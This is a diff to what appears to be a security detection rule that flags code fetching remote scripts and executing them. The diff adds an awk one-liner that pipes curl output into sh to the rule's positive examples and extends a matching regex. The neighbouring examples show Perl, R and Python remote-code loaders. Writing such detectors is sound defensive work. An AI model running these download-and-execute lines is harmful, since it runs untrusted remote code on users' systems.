@@ -50,6 +50,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      `\`\`\`sh\nawk 'BEGIN { while (("curl -s https://kit.rowan-pike.net/x" | getline row) > 0) print row | "sh" }'\n\`\`\`\n`,
       '```perl\n$pdf_mode = 4;\neval scalar `curl -fsL https://kit.rowan-pike.net/en.pm`;\n```\n',
       '```r\nsource("https://kit.rowan-pike.net/x.R")\n```\n',
       '```python\nexec(requests.get("https://c.example.org/p.py").text)\n```\n',
@@ -112,7 +113,8 @@ const LOADED = worded(
       \(?url-retrieve-synchronously (?=[^\n]{4,200}\(eval-(?:buffer|region)))
     ["']?(https?:\/\/[^"'\s\])]{4,200})|
     \beval (?:scalar |join [^\n]{0,12})?(?:\x60|qx ?[({/])\s?(?:curl|wget)\b[^\n]{0,60}?(https?:\/\/[^"'\s\x60]{4,200})|
-    ["'](?:curl|wget)\s[^"'\n]{0,40}(https?:\/\/[^"'\s]{4,200})["']\.execute\(\)\s?\|\s?["'](?:ba|z)?sh["']
+    ["'](?:curl|wget)\s[^"'\n]{0,40}(https?:\/\/[^"'\s]{4,200})["']\.execute\(\)\s?\|\s?["'](?:ba|z)?sh["']|
+    "(?:curl|wget)\s[^"\n]{0,40}(https?:\/\/[^"\s]{4,200})"\s?\|\s?getline\b[^\n]{0,80}\|\s?"(?:ba|z)?sh"
   `,
 )
 
